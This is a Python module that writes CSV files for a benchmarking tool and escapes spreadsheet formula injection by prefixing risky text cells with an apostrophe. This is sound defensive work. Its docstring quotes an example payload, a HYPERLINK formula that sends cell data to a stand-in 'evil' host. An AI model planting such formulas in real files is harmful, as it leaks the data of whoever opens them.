"""CSV for spreadsheets and other tools: every CSV energybench writes goes through here, its text cells inert.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or carriage
return) as a formula, and benchmark names, methods and notes come from results files that anyone can write
(``=HYPERLINK("http://evil/?"&A1)``). Such a text cell gets a leading ``'``, the OWASP-recommended escape
that spreadsheets show as the plain text; numbers stay numbers, so ``-0.5`` is still a number. Control
characters (an escape sequence, a NUL, a bidi override) are dropped as in every other output
(``render.printable``). Writers: ``report --csv`` (``safe_csv``) and ``export codecarbon`` (``csv_text``).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import TYPE_CHECKING, Any

from energybench.render.printable import printable
from energybench.units import is_number

if TYPE_CHECKING:
    import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """A text cell that a spreadsheet would run as a formula, prefixed with ``'``; anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not is_number(value):
        return "'" + value
    return value


def csv_cell(value: Any) -> Any:
    """One cell as written: text without control characters, then neutralised; numbers as they are."""
    return neutralise(printable(value)) if isinstance(value, str) else value


def csv_text(columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> str:
    """A CSV file's text (header, then one line per row, ``\\n`` line ends) with every cell ``csv_cell``."""
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=[csv_cell(c) for c in columns], lineterminator="\n")
    writer.writeheader()
    writer.writerows({csv_cell(c): csv_cell(row.get(c, "")) for c in columns} for row in rows)
    return buf.getvalue()


def safe_csv(table: pd.DataFrame) -> str:
    """``table.to_csv(index=False)`` with every text cell (and column name) made inert."""
    from pandas.api.types import is_numeric_dtype

    safe = table.copy()
    for column in safe.columns:
        if not is_numeric_dtype(safe[column].dtype):  # object or string columns (pandas 3 infers str)
            safe[column] = safe[column].map(csv_cell)
    safe.columns = [csv_cell(str(c)) for c in safe.columns]
    return safe.to_csv(index=False)


